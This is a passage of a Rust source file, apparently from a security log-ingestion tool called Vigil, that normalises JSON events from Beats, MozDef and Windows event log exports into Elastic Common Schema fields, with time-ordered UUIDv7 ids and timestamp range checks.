//! Turning whatever a shipper sent into one event: ECS fields for what Vigil
//! understands, every input field kept.
//!
//! The stored document (`payload`) is the input object with Elastic Common
//! Schema fields added where they are absent (`@timestamp`, `event.*`,
//! `host.name`, `source.ip`, …). Input fields keep their names, so Sigma
//! rules can still say `Image` or `CommandLine`. When an ECS object would land
//! on a key that holds a scalar (a Logstash-style `"host": "web01"`), the scalar
//! moves to `vigil.original.<key>`; nothing is dropped. The hot fields are then
//! read back from the document into table columns, so the two never disagree.
//!
//! Recognised shapes: ECS/Beats documents, MozDef events (`summary`,
//! `hostname`, `details.*`, `utctimestamp`), Windows event log exports in nested
//! form (`Event.System` / `Event.EventData`, flattened to the field names Sigma
//! uses) and flat form (OTRF recordings: `EventID`, `Channel`, `Image`, …).

use super::fields::Fields;
use crate::event::text::{number_of, parse_ip, scalar_text};
use super::timestamp::{parse_timestamp, parse_timestamp_text};
use chrono::{DateTime, SecondsFormat, Utc};
use serde_json::{Map, Value};
use std::borrow::Cow;
use std::cell::RefCell;
use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;
use uuid::Uuid;

/// Returns one normalised event, ready to store.
#[derive(Debug, Clone, PartialEq)]
pub struct Event {
    /// Vigil's id for the event (time-ordered UUIDv7).
    pub id: Uuid,
    /// `@timestamp`: when it happened (or when received, see `vigil.flags`).
    pub ts: DateTime<Utc>,
    /// `event.ingested`.
    pub ingested_at: DateTime<Utc>,
    /// The API key or listener that delivered it.
    pub source_id: Option<Uuid>,
    /// `event.category` (the first, when several).
    pub category: Option<String>,
    /// `event.action`.
    pub action: Option<String>,
    /// `event.outcome`: success, failure or unknown.
    pub outcome: Option<String>,
    /// `log.level`, lowercase.
    pub log_level: Option<String>,
    /// `host.name`.
    pub host_name: Option<String>,
    /// `source.ip`.
    pub source_ip: Option<IpAddr>,
    /// `destination.ip`.
    pub destination_ip: Option<IpAddr>,
    /// `user.name`.
    pub user_name: Option<String>,
    /// `process.name`.
    pub process_name: Option<String>,
    /// `message`.
    pub message: Option<String>,
    /// `tags`.
    pub tags: Vec<String>,
    /// The whole document, as JSON text.
    pub payload: String,
    /// The shipper's id for the document (Elasticsearch `_id`): a second
    /// document with the same id from the same source is not stored again.
    pub document_id: Option<String>,
}

impl Event {
    /// Returns the stored document parsed (tests and the occasional reader).
    pub fn document(&self) -> Value {
        serde_json::from_str(&self.payload).unwrap_or(Value::Null)
    }
}

/// Returns why an item was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rejection {
    /// A stable code (`not_an_object`, `invalid_json`, `too_large`).
    pub code: &'static str,
    /// What was wrong.
    pub message: String,
}

/// Returns where and when events arrive.
#[derive(Debug, Clone)]
pub struct IngestContext {
    /// The delivering API key or listener.
    pub source_id: Option<Uuid>,
    /// What kind of source delivers.
    pub source_kind: app::ingest::SourceKind,
    /// Its name, stored in `vigil.source`.
    pub source_name: String,
    /// The receive time.
    pub received_at: DateTime<Utc>,
    /// Geo-IP databases for `source.geo` / `destination.geo`, when configured.
    pub geo: Option<super::GeoIp>,
}

/// Returns the normaliser's time rules.
#[derive(Debug, Clone, Copy)]
pub struct TimePolicy {
    /// Events older than this are kept at their receive time (and flagged).
    pub max_age: Duration,
    /// Events further ahead than this are kept at their receive time (and flagged).
    pub max_future: Duration,
}

impl Default for TimePolicy {
    fn default() -> Self {
        TimePolicy {
            max_age: Duration::from_secs(90 * 24 * 3600),
            max_future: Duration::from_secs(24 * 3600),
        }
    }
}

/// Fields that may carry the event time, most specific first.
pub(crate) const TIME_FIELDS: &[&str] = &[
    "@timestamp",
    "utctimestamp",
    "timestamp",
    "eventtime",
    "TimeCreated_SystemTime",
    "UtcTime",
    "TimeCreated",
    "EventTime",
    "date",
    "time",
];

/// Returns the event for the JSON text of one document, or why it cannot be one.
pub fn normalize_text(
    text: &str,
    ctx: &IngestContext,
    policy: TimePolicy,
) -> Result<Event, Rejection> {
    normalize_text_with(text, ctx, policy, Vec::new())
}

/// As [`normalize_text`], also setting `annotations` (paths under `vigil.`).
pub fn normalize_text_with(
    text: &str,
    ctx: &IngestContext,
    policy: TimePolicy,
    annotations: Vec<(&'static str, Value)>,
) -> Result<Event, Rejection> {
    let invalid = |e: serde_json::Error| Rejection {
        code: "invalid_json",
        message: format!("invalid json: {e}"),
    };
    match Fields::scan(text) {
        Some(fields) => Ok(normalize_fields(
            fields,
            text.len(),
            ctx,
            policy,
            annotations,
        )),
        // Not an object, malformed, or text jsonb would refuse: parse fully,
        // which cleans it or says what is wrong.
        None => {
            let doc: Value = serde_json::from_str(text).map_err(invalid)?;
            normalize_with(doc, ctx, policy, annotations)
        }
    }
}

/// Returns the event for `doc`, or why it cannot be one.
pub fn normalize(doc: Value, ctx: &IngestContext, policy: TimePolicy) -> Result<Event, Rejection> {
    normalize_with(doc, ctx, policy, Vec::new())
}

fn normalize_with(
    doc: Value,
    ctx: &IngestContext,
    policy: TimePolicy,
    annotations: Vec<(&'static str, Value)>,
) -> Result<Event, Rejection> {
    let Value::Object(mut fields) = doc else {
        return Err(Rejection {
            code: "not_an_object",
            message: format!("an event must be a JSON object, not {}", kind_of(&doc)),
        });
    };
    replace_nul_characters(&mut fields);
    Ok(normalize_fields(
        Fields::from_map(fields),
        1024,
        ctx,
        policy,
        annotations,
    ))
}

fn normalize_fields(
    mut fields: Fields<'_>,
    size_hint: usize,
    ctx: &IngestContext,
    policy: TimePolicy,
    annotations: Vec<(&'static str, Value)>,
) -> Event {
    let mut derived = Derived::default();

    flatten_windows_export(&mut fields);
    if is_mozdef(&fields) {
        derive_mozdef(&fields, &mut derived);
    }
    if fields.contains_key("EventID") {
        derive_windows(&fields, &mut derived);
    }
    derive_common(&fields, &mut derived);
    derive_from_message(&mut fields, &mut derived);

    let (ts, time_flag, original_time) = event_time(&fields, ctx.received_at, policy);
    let id = event_id(ts);
    let mut doc = Document {
        fields,
        moved: Vec::new(),
    };
    let mut flags: Vec<Value> = Vec::new();
    if let Some(flag) = time_flag {
        flags.push(Value::from(flag));
    }
    doc.put("@timestamp", Value::from(rfc3339_micros(ts)), true);
    doc.put(
        "event.ingested",
        Value::from(rfc3339_micros(ctx.received_at)),
        true,
    );
    doc.put("event.id", Value::from(uuid_text(id)), false);
    for (path, value) in derived.values {
        doc.put(path, value, false);
    }
    if let Some(geo) = &ctx.geo {
        enrich_geo(&mut doc, geo);
    }
    if !derived.tags.is_empty() {
        let mut tags = tags_of(&doc.fields);
        for tag in derived.tags {
            if !tags.contains(&tag) {
                tags.push(tag);
            }
        }
        doc.fields.insert("tags", Value::from(tags));
    }
    doc.put(
        "vigil.source.name",
        Value::from(ctx.source_name.clone()),
        true,
    );
    if let Some(source) = ctx.source_id {
        doc.put("vigil.source.id", Value::from(uuid_text(source)), true);
    }
    if let Some(original) = original_time {
        doc.put("vigil.original_timestamp", original, true);
    }
    for (path, value) in annotations {
        doc.put(path, value, true);
    }
    if !doc.moved.is_empty() {
        flags.push(Value::from("renamed_conflicting_fields"));
    }
    if !flags.is_empty() {
        // Flags set before normalisation (by the syslog parser) are kept.
        let mut all: Vec<Value> = doc
            .fields
            .get_path("vigil.flags")
            .and_then(|flags| flags.as_array().cloned())
            .unwrap_or_default();
        all.extend(flags);
        doc.put("vigil.flags", Value::from(all), true);
    }

    let fields = doc.fields;
    let mut payload = Vec::with_capacity(size_hint + 384);
    fields.write_json(&mut payload);
    Event {
        id,
        ts,
        ingested_at: ctx.received_at,
        source_id: ctx.source_id,
        category: text_at(&fields, "event.category").map(lowercase),
        action: text_at(&fields, "event.action"),
        outcome: text_at(&fields, "event.outcome").map(lowercase),
        log_level: text_at(&fields, "log.level").map(lowercase),
        host_name: text_at(&fields, "host.name"),
        source_ip: ip_at(&fields, "source.ip"),
        destination_ip: ip_at(&fields, "destination.ip"),
        user_name: text_at(&fields, "user.name"),
        process_name: text_at(&fields, "process.name"),
        message: text_at(&fields, "message"),
        tags: tags_of(&fields),
        // Both halves are UTF-8: the sender's text and serde_json's output.
        payload: String::from_utf8(payload)
            .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned()),
        document_id: None,
    }
}

/// `text` in lower case; without a copy when it already is (the usual case).
fn lowercase(text: String) -> String {
    if text
        .bytes()
        .any(|b| b.is_ascii_uppercase() || !b.is_ascii())
    {
        text.to_lowercase()
    } else {
        text
    }
}

/// `2026-11-29T12:00:00.000000Z`, as chrono's `to_rfc3339_opts(Micros, true)`
/// writes it for years 0–9999, at a fraction of its cost (it runs twice per event).
fn rfc3339_micros(ts: DateTime<Utc>) -> String {
    use chrono::{Datelike, Timelike};
    let year = ts.year();
    if !(0..=9999).contains(&year) {
        return ts.to_rfc3339_opts(SecondsFormat::Micros, true);
    }
    let mut out = [0u8; 27];
    let mut put = |at: usize, width: usize, mut n: u32| {
        for i in (0..width).rev() {
            out[at + i] = b'0' + (n % 10) as u8;
            n /= 10;
        }
    };
    put(0, 4, year as u32);
    put(5, 2, ts.month());
    put(8, 2, ts.day());
    put(11, 2, ts.hour());
    put(14, 2, ts.minute());
    put(17, 2, ts.second());
    // A leap second shows as nanoseconds past 1e9; chrono prints it as 60.
    let nanos = ts.nanosecond();
    let (second_bump, micros) = (nanos / 1_000_000_000, nanos % 1_000_000_000 / 1000);
    if second_bump > 0 {
        put(17, 2, ts.second() + second_bump);
    }
    put(20, 6, micros);
    out[4] = b'-';
    out[7] = b'-';
    out[10] = b'T';
    out[13] = b':';
    out[16] = b':';
    out[19] = b'.';
    out[26] = b'Z';
    String::from_utf8_lossy(&out).into_owned()
}

/// Per-thread state of [`event_id`]: a SplitMix64 stream, the last
/// millisecond used and the counter within it.
struct IdState {
    random: u64,
    millis: u64,
    counter: u64,
}

thread_local! {
    static ID_STATE: RefCell<IdState> = RefCell::new(IdState {
        random: seed(),
        millis: 0,
        counter: 0,
    });
}

fn seed() -> u64 {
    let mut bytes = [0u8; 8];
    // Without the OS generator, the clock still gives each thread its own stream.
    if getrandom::fill(&mut bytes).is_err() {
        let nanos = Utc::now().timestamp_nanos_opt().unwrap_or_default() as u64;
        bytes = nanos.to_le_bytes();
    }
    u64::from_le_bytes(bytes)
}

impl IdState {
    fn next_random(&mut self) -> u64 {
        self.random = self.random.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.random;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
}

/// A UUIDv7 (RFC 9562) whose timestamp is the event's own time, in Unix
/// milliseconds: an id alone then names its day partition and its place in
/// the time index, so `GET /api/v1/events/{id}` needs nothing else. Then a
/// 42-bit counter that starts at a random value for each new millisecond (ids
/// of one thread for one millisecond are strictly increasing) and 32 random
/// bits; ids from different threads differ by their random bits.
/// `Uuid::now_v7` asked the kernel for randomness on every event, 2 % of
/// ingest CPU; this draws from a per-thread SplitMix64 stream seeded once.
fn event_id(ts: DateTime<Utc>) -> Uuid {
    const COUNTER_BITS: u32 = 42;
    ID_STATE.with(|state| {
        let mut state = state.borrow_mut();
        let millis = (ts.timestamp_millis().max(0) as u64) & 0xFFFF_FFFF_FFFF;
        if millis == state.millis && (state.counter + 1) >> COUNTER_BITS == 0 {
            state.counter += 1;
        } else {
            state.millis = millis;
            // Start in the lower half so the counter has room to grow.
            state.counter = state.next_random() >> (64 - COUNTER_BITS + 1);
        }
        let random = state.next_random() & 0xFFFF_FFFF;
        let bits = (u128::from(millis) << 80)
            | (0x7u128 << 76)
            | (u128::from(state.counter >> 30) << 64)
            | (0b10u128 << 62)
            | (u128::from(state.counter & 0x3FFF_FFFF) << 32)
            | u128::from(random);
        Uuid::from_u128(bits)
    })
}

/// `id` as `to_string` writes it, without the formatting machinery.
fn uuid_text(id: Uuid) -> String {
    id.hyphenated()
        .encode_lower(&mut Uuid::encode_buffer())
        .to_owned()
}

/// Returns the event time (to the millisecond) an event id carries.
pub fn time_of_id(id: Uuid) -> Option<DateTime<Utc>> {
    let millis = (id.as_u128() >> 80) as i64;
    (id.get_version_num() == 7)
        .then(|| DateTime::from_timestamp_millis(millis))
        .flatten()
}

/// Postgres text and jsonb cannot hold U+0000; it becomes U+FFFD rather than
/// failing the whole batch the event travels in.
fn replace_nul_characters(fields: &mut Map<String, Value>) {
    if fields.keys().any(|k| k.contains('\0')) {
        let old = std::mem::take(fields);
        for (key, value) in old {
            fields.insert(key.replace('\0', "\u{FFFD}"), value);
        }
    }
    for value in fields.values_mut() {
        replace_nul_in_value(value);
    }
}

fn replace_nul_in_value(value: &mut Value) {
    match value {
        Value::String(text) if text.contains('\0') => *text = text.replace('\0', "\u{FFFD}"),
        Value::Object(inner) => replace_nul_characters(inner),
        Value::Array(items) => items.iter_mut().for_each(replace_nul_in_value),
        _ => {}
    }
}

fn kind_of(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

/// ECS values derived from recognised input fields, applied where absent.
#[derive(Debug, Default)]
struct Derived {
    values: Vec<(&'static str, Value)>,
    tags: Vec<String>,
}

impl Derived {
    fn get(&self, path: &str) -> Option<&Value> {
        self.values.iter().find(|(p, _)| *p == path).map(|(_, v)| v)
    }

    fn set(&mut self, path: &'static str, value: Option<Value>) {
        if let Some(value) = value.filter(|v| !is_blank(v))
            && !self.values.iter().any(|(p, _)| *p == path)
        {
            self.values.push((path, value));
        }
    }
}

fn is_blank(value: &Value) -> bool {
    match value {
        Value::Null => true,
        Value::String(s) => s.trim().is_empty(),
        _ => false,
    }
}

/// Adds ECS `geo` and `as` objects for public source and destination
/// addresses; what the shipper already sent under them wins.
fn enrich_geo(doc: &mut Document<'_>, geo: &super::GeoIp) {
    const SIDES: [(&str, &str, &str); 2] = [
        ("source.ip", "source.geo", "source.as"),
        ("destination.ip", "destination.geo", "destination.as"),
    ];
    for (ip_path, geo_path, as_path) in SIDES {
        let Some(located) = ip_at(&doc.fields, ip_path).and_then(|ip| geo.lookup(ip)) else {
            continue;
        };
        if let Some(json) = &located.geo_json {
            doc.put_shared(geo_path, json);
        }
        if let Some(json) = &located.as_json {
            doc.put_shared(as_path, json);
        }
    }
}

fn text_at(fields: &Fields<'_>, path: &str) -> Option<String> {
    fields.text_at(path).map(Cow::into_owned)
}

fn ip_at(fields: &Fields<'_>, path: &str) -> Option<IpAddr> {
    parse_ip(&fields.text_at(path)?)
}

/// The event's `tags` as a list (see [`string_list`]), read straight from
/// the sender's text when it is a list of plain strings.
fn tags_of(fields: &Fields<'_>) -> Vec<String> {
    if let Some(text) = fields.text_of("tags")
        && let Some(items) = super::fields::string_items(text)
    {
        return items
            .iter()
            .map(|tag| tag.trim())
            .filter(|tag| !tag.is_empty())
            .map(str::to_owned)
            .collect();
    }
    string_list(fields.get("tags"))
}

fn string_list(value: Option<&Value>) -> Vec<String> {
    match value {
        Some(Value::Array(items)) => items.iter().filter_map(scalar_text).collect(),
        Some(other) => scalar_text(other).into_iter().collect(),
        None => Vec::new(),
    }
}

/// The segments of one of Vigil's own dotted paths (at most eight), split
/// without allocating: the keys they add borrow the path.
fn path_segments(path: &'static str) -> Option<([&'static str; 8], usize)> {
    let mut buffer = [""; 8];
    let mut count = 0;
    let mut rest = Some(path);
    while let Some(remaining) = rest {
        let (segment, tail) = match crate::event::path::split_dot(remaining) {
            Some((segment, tail)) => (segment, Some(tail)),
            None => (remaining, None),
        };
        *buffer.get_mut(count)? = segment;
        count += 1;
        rest = tail;
    }
    Some((buffer, count))
}

/// The document being built, with the collision rule for dotted paths.
struct Document<'a> {
    fields: Fields<'a>,
    moved: Vec<String>,
}

impl Document<'_> {
    /// Sets `path` to `value`; `overwrite` replaces an existing value, otherwise an
    /// existing non-blank value wins. A scalar in the way of an object moves to
    /// `vigil.original.<prefix>`.
    fn put(&mut self, path: &'static str, value: Value, overwrite: bool) {
        if !overwrite && self.fields.has_value_at(path) {
            return;
        }
        let Some((buffer, count)) = path_segments(path) else {
            return;
        };
        let segments = &buffer[..count];
        let Some((last, parents)) = segments.split_last() else {
            return;
        };
        // Objects all the way down: set the member, leaving its siblings as text.
        if let Some(target) = self.fields.object_at(parents) {
            target.insert(*last, value);
            return;
        }
        let Some((first, inner)) = parents.split_first() else {
            self.fields.insert(path, value);
            return;
        };
        let mut displaced: Vec<(String, Value)> = Vec::new();
        let top = self
            .fields
            .get_or_insert_with(first, || Value::Object(Map::new()));
        if !top.is_object() {
            displaced.push((
                (*first).to_owned(),
                std::mem::replace(top, Value::Object(Map::new())),
            ));
        }
        let mut current = top
            .as_object_mut()
            .expect("an object was just ensured at this key");
        for (i, segment) in inner.iter().enumerate() {
            if current.get(*segment).is_some_and(|v| !v.is_object())
                && let Some(old) = current.insert((*segment).to_owned(), Value::Object(Map::new()))
            {
                displaced.push((segments[..=i + 1].join("."), old));
            }
            current = current
                .entry((*segment).to_owned())
                .or_insert_with(|| Value::Object(Map::new()))
                .as_object_mut()
                .expect("an object was just ensured at this key");
        }
        current.insert((*last).to_owned(), value);
        for (prefix, old) in displaced {
            self.moved.push(prefix.clone());
            self.stash_original(prefix, old);
        }
    }

    /// Sets `path` to shared JSON text unless it has a value (as `put`
    /// without overwriting), without parsing the text where it can.
    fn put_shared(&mut self, path: &'static str, json: &Arc<str>) {
        if self.fields.has_value_at(path) {
            return;
        }
        let Some((buffer, count)) = path_segments(path) else {
            return;
        };
        let Some((last, parents)) = buffer[..count].split_last() else {
            return;
        };
        match self.fields.object_at(parents) {
            Some(target) => target.insert_shared(*last, Arc::clone(json)),
            // A scalar in the way: the general path moves it aside.
            None => {
                if let Ok(value) = serde_json::from_str(json) {
                    self.put(path, value, false);
                }
            }
        }
    }

    fn stash_original(&mut self, path: String, value: Value) {
        let vigil = self
            .fields
            .get_or_insert_with("vigil", || Value::Object(Map::new()));
        if !vigil.is_object() {
            *vigil = Value::Object(Map::new());
        }
        if let Some(vigil) = vigil.as_object_mut() {
            let original = vigil
                .entry("original")
                .or_insert_with(|| Value::Object(Map::new()));
            if let Some(original) = original.as_object_mut() {
                original.insert(path, value);
            }
        }
    }
}

/// Picks the event time: the first parseable time field, within the policy's
/// range; otherwise the receive time with a flag and the original kept.
/// An event this much older than its arrival is flagged `arrived_late`.
const LATE_AFTER_HOURS: i64 = 24;

fn event_time(
    fields: &Fields<'_>,
    received: DateTime<Utc>,
    policy: TimePolicy,
) -> (DateTime<Utc>, Option<&'static str>, Option<Value>) {
    let mut unparsed: Option<Value> = None;
    for field in TIME_FIELDS {
        // Time fields are top-level names, so no path lookup is needed.
        if !fields.contains_key(field) {
            continue;
        }
        // Strings, the usual shape, are read without a `Value` being built.
        let parsed = match fields.str_at(field) {
            Some(text) => parse_timestamp_text(&text, received),
            None => fields
                .get(field)
                .and_then(|raw| parse_timestamp(raw, received)),
        };
        let raw = || fields.get(field).cloned().unwrap_or_default();
        let Some(ts) = parsed else {
            unparsed.get_or_insert_with(raw);
            continue;
        };
        let oldest = received - chrono::Duration::from_std(policy.max_age).unwrap_or_default();
        let newest = received + chrono::Duration::from_std(policy.max_future).unwrap_or_default();
        if ts < oldest || ts > newest {
            return (received, Some("timestamp_out_of_range"), Some(raw()));
        }
        // Kept at its time, but a pipeline that delivers day-old events is
        // worth knowing about (MozDef's old_events alert reads this).
        if received - ts > chrono::Duration::hours(LATE_AFTER_HOURS) {
            return (ts, Some("arrived_late"), None);
        }
        return (ts, None, None);
    }
    match unparsed {
        Some(raw) => (received, Some("timestamp_unparsed"), Some(raw)),
        None => (received, Some("timestamp_missing"), None),
    }
}

// --- Windows event log exports ------------------------------------------------

/// Flattens `{"Event": {"System": …, "EventData": …}}` into top-level fields
/// named as Sigma expects: EventData and System children by name, XML
/// attributes as `<Element>_<Attribute>` (`Provider_Name`, `TimeCreated_SystemTime`).
fn flatten_windows_export(fields: &mut Fields<'_>) {
    let is_export = fields
        .get("Event")
        .and_then(Value::as_object)
        .is_some_and(|event| event.contains_key("System"));
    if !is_export {
        return;
    }
    let Some(Value::Object(event)) = fields.remove("Event") else {
        return;
    };
    for (section, content) in event {
        match (section.as_str(), content) {
            ("#attributes", _) => {}
            // `UserData` wraps its fields in one element named after the
            // event (`Operation_ClientFailure`): its children are the fields,
            // as Sigma rules and evtx tools name them.
            ("UserData", Value::Object(elements)) => {
                for (_, element) in elements {
                    let Value::Object(children) = element else {
                        continue;
                    };
                    for (name, child) in children {
                        if name != "#attributes" {
                            flatten_xml_child(fields, &name, child);
                        }
                    }
                }
            }
            (_, Value::Object(children)) => {
                for (name, child) in children {
                    flatten_xml_child(fields, &name, child);
                }
            }
            (name, other) => fields.insert_absent(name.to_owned(), other),
        }
    }
}

fn flatten_xml_child(fields: &mut Fields<'_>, name: &str, child: Value) {
    match child {
        Value::Object(mut inner)
            if inner.contains_key("#attributes") || inner.contains_key("#text") =>
        {
            if let Some(Value::Object(attributes)) = inner.remove("#attributes") {
                for (attribute, value) in attributes {
                    fields.insert_absent(format!("{name}_{attribute}"), value);
                }
            }
            if let Some(text) = inner.remove("#text") {
                fields.insert_absent(name.to_owned(), text);
            }
            for (rest, value) in inner {
                fields.insert_absent(format!("{name}_{rest}"), value);
            }
        }
        other => fields.insert_absent(name.to_owned(), other),
    }
}

/// Objects whose top-level fields can be read by name.
trait Named {
    fn named(&self, name: &str) -> Option<&Value>;
}

impl Named for Fields<'_> {
    fn named(&self, name: &str) -> Option<&Value> {
        self.get(name)
    }
}

impl Named for Map<String, Value> {
    fn named(&self, name: &str) -> Option<&Value> {
        self.get(name)
    }
}

/// The first non-blank of `names` when it is a string (a non-string first
/// value means none), read without parsing objects in the way.
fn first_string_of(fields: &Fields<'_>, names: &[&str]) -> Option<Value> {
    for name in names {
        if !fields.contains_key(name) || fields.is_null(name) {
            continue;
        }
        if !fields.is_string(name) {
            return None;
        }
        match fields.get(name) {
            Some(value) if !is_blank(value) => return Some(value.clone()),
            _ => continue,
        }
    }
    None
}

fn first_of(fields: &impl Named, names: &[&str]) -> Option<Value> {
    names
        .iter()
        .filter_map(|n| fields.named(n))
        .find(|v| !is_blank(v))
        .cloned()
}

fn windows_basename(path: &str) -> String {
    path.rsplit(['\\', '/']).next().unwrap_or(path).to_owned()
}

fn derive_windows(fields: &Fields<'_>, derived: &mut Derived) {
    let code = fields.get("EventID").and_then(scalar_text);
    let channel = fields
        .get("Channel")
        .and_then(scalar_text)
        .unwrap_or_default()
        .to_lowercase();
    derived.set("event.code", code.clone().map(Value::from));
    derived.set("host.name", first_of(fields, &["Hostname", "Computer"]));
    derived.set(
        "event.provider",
        first_of(fields, &["Provider_Name", "SourceName"]),
    );
    derived.set("winlog.channel", first_of(fields, &["Channel"]));
    derived.set("message", first_of(fields, &["Message"]));
    if let Some(image) = fields.get("Image").and_then(scalar_text) {
        derived.set("process.executable", Some(Value::from(image.clone())));
        derived.set("process.name", Some(Value::from(windows_basename(&image))));
    }
    derived.set("process.command_line", first_of(fields, &["CommandLine"]));
    derived.set(
        "process.parent.executable",
        first_of(fields, &["ParentImage"]),
    );
    derived.set(
        "user.name",
        first_of(fields, &["TargetUserName", "User", "SubjectUserName"]),
    );
    derived.set(
        "source.ip",
        first_of(fields, &["IpAddress", "SourceAddress", "SourceIp"])
            .filter(|v| v.as_str().and_then(parse_ip).is_some()),
    );
    derived.set(
        "destination.ip",
        first_of(fields, &["DestAddress", "DestinationIp"])
            .filter(|v| v.as_str().and_then(parse_ip).is_some()),
    );

    let sysmon = channel.contains("sysmon");
    let (category, action, outcome) = match (sysmon, code.as_deref().unwrap_or_default()) {
        (true, "1") => ("process", "process-created", None),
        (true, "3") => ("network", "network-connection", None),
        (true, "5") => ("process", "process-terminated", None),
        (true, "7") => ("library", "image-loaded", None),
        (true, "10") => ("process", "process-accessed", None),
        (true, "11") => ("file", "file-created", None),
        (true, "12" | "13" | "14") => ("registry", "registry-changed", None),
        (true, "22") => ("network", "dns-query", None),
        (false, "4624") => ("authentication", "logged-in", Some("success")),
        (false, "4625") => ("authentication", "logon-failed", Some("failure")),
        (false, "4634" | "4647") => ("authentication", "logged-out", Some("success")),
        (false, "4688") => ("process", "process-created", None),
        (false, "4720") => ("iam", "user-created", Some("success")),
        (false, "4698") => ("configuration", "scheduled-task-created", None),
        (false, "5156") => ("network", "connection-allowed", Some("success")),
        (false, "7045") => ("configuration", "service-installed", None),
        _ => ("", "", None),
    };
    if !category.is_empty() {
        derived.set("event.category", Some(Value::from(category)));
        derived.set("event.action", Some(Value::from(action)));
        derived.set("event.outcome", outcome.map(Value::from));
    }
}

// --- MozDef ---------------------------------------------------------------------

fn is_mozdef(fields: &Fields<'_>) -> bool {
    ["summary", "utctimestamp", "processname", "mozdefhostname"]
        .iter()
        .any(|k| fields.contains_key(k))
        || fields.get("details").is_some_and(Value::is_object)
}

/// Maps MozDef's schema (docs: json_format.rst) onto ECS, keeping the originals.
/// An ECS `geo` object from MozDef's geolocation (`latitude`, `city`,
/// `country_code`, `time_zone`, …).
fn mozdef_geo(place: &Map<String, Value>) -> Option<Value> {
    let mut geo = Map::new();
    for (from, to) in [
        ("city", "city_name"),
        ("country_code", "country_iso_code"),
        ("country_name", "country_name"),
        ("region_code", "region_iso_code"),
        ("postal_code", "postal_code"),
        ("time_zone", "timezone"),
        ("continent", "continent_code"),
    ] {
        if let Some(text) = place.get(from).and_then(scalar_text) {
            geo.insert(to.to_owned(), Value::from(text));
        }
    }
    let degrees = |key: &str| place.get(key).and_then(number_of);
    if let (Some(lat), Some(lon)) = (degrees("latitude"), degrees("longitude")) {
        geo.insert(
            "location".to_owned(),
            serde_json::json!({"lat": lat, "lon": lon}),
        );
    }
    (!geo.is_empty()).then_some(Value::Object(geo))
}

fn derive_mozdef(fields: &Fields<'_>, derived: &mut Derived) {
    derived.set("message", first_of(fields, &["summary"]));
    derived.set("host.name", first_of(fields, &["hostname"]));
    derived.set("process.name", first_of(fields, &["processname"]));
    // MozDef's `source` names the producer (`cloudtrail`, Zeek's `notice`);
    // ECS's `source` is the network source, so the name goes to
    // `event.provider` (and the scalar itself to `vigil.original.source`
    // when an address needs `source`).
    derived.set(
        "event.provider",
        fields.get("source").filter(|s| s.is_string()).cloned(),
    );
    derived.set(
        "process.pid",
        fields
            .get("processid")
            .and_then(scalar_text)
            .and_then(|p| p.parse::<i64>().ok())
            .map(Value::from),
    );
    derived.set(
        "event.category",
        first_of(fields, &["category"])
            .map(|c| Value::from(scalar_text(&c).unwrap_or_default().to_lowercase())),
    );
    derived.set(
        "log.level",
        fields
            .get("severity")
            .and_then(scalar_text)
            .map(|s| Value::from(s.to_lowercase())),
    );
    if let Some(Value::Object(details)) = fields.get("details") {
        derived.set(
            "source.ip",
            first_of(details, &["sourceipaddress", "sourceipv4address"]),
        );
        derived.set(
            "destination.ip",
            first_of(details, &["destinationipaddress", "destinationipv4address"]),
        );
        derived.set("source.port", first_of(details, &["sourceport"]));
        derived.set("destination.port", first_of(details, &["destinationport"]));
        derived.set("user.name", first_of(details, &["username", "user"]));
        derived.set("user_agent.original", first_of(details, &["useragent"]));
        let outcome = match details.get("success") {
            Some(Value::Bool(true)) => Some("success"),
            Some(Value::Bool(false)) => Some("failure"),
            Some(Value::String(s)) if s.eq_ignore_ascii_case("true") => Some("success"),
            Some(Value::String(s)) if s.eq_ignore_ascii_case("false") => Some("failure"),
            _ => None,
        };
        derived.set("event.outcome", outcome.map(Value::from));
        // MozDef's geoip plugin placed addresses under `*ipgeolocation`.
        for (key, path) in [
            ("sourceipgeolocation", "source.geo"),
            ("destinationipgeolocation", "destination.geo"),
        ] {
            if let Some(Value::Object(place)) = details.get(key) {
                derived.set(path, mozdef_geo(place));
            }
        }
    }
    if let Some(tags) = fields.get("tags") {
        // MozDef accepts a single string as a one-tag list.
        if let Value::String(tag) = tags
            && !tag.trim().is_empty()
        {
            derived.tags.push(tag.trim().to_owned());
        }
    }
}

// --- Text lines ------------------------------------------------------------------

/// Structure from the message text of well-known programs: sshd's login
/// messages, and web-server access lines (whose time becomes the event time
/// when the event carries no other).
fn derive_from_message(fields: &mut Fields<'_>, derived: &mut Derived) {
    let message = match fields.str_at("message") {
        Some(found) => found.into_owned(),
        None if fields.contains_key("message") => return,
        None => match derived.get("message").and_then(Value::as_str) {
            Some(message) => message.to_owned(),
            None => return,
        },
    };
    let process_is = |name: &str| match fields.str_at("process.name") {
        Some(found) => found == name,
        None => derived.get("process.name").and_then(Value::as_str) == Some(name),
    };
    if process_is("sshd") {
        for (path, value) in super::parsers::sshd_fields(&message) {
            derived.set(path, Some(value));
        }
    } else if !fields.contains_key("http")
        && let Some((found, time)) = super::parsers::access_log_fields(&message)
    {
        for (path, value) in found {
            derived.set(path, Some(value));
        }
        if !TIME_FIELDS.iter().any(|field| fields.contains_key(field)) {
            fields.insert("@timestamp", Value::from(time));
        }
    }
}

// --- Everything else --------------------------------------------------------------

/// Common shipper spellings of ECS fields (syslog-ng, Fluent Bit, Logstash, nxlog).
fn derive_common(fields: &Fields<'_>, derived: &mut Derived) {
    derived.set(
        "host.name",
        first_string_of(
            fields,
            &["hostname", "host", "source_host", "HOSTNAME", "Hostname"],
        ),
    );
    derived.set(
        "process.name",
        first_string_of(fields, &["program", "PROGRAM", "ident", "SourceName"]),
    );
    derived.set(
        "log.level",
        fields
            .get("level")
            .or_else(|| fields.get("PRIORITY"))
            .and_then(scalar_text)
            .map(|l| Value::from(l.to_lowercase())),
    );
    derived.set(
        "message",
        first_string_of(fields, &["msg", "MESSAGE", "log"]),
    );
    // A single string is a one-tag list (lists are left as they are).
    if fields.is_string("tags")
        && let Some(tag) = fields.text_at("tags")
    {
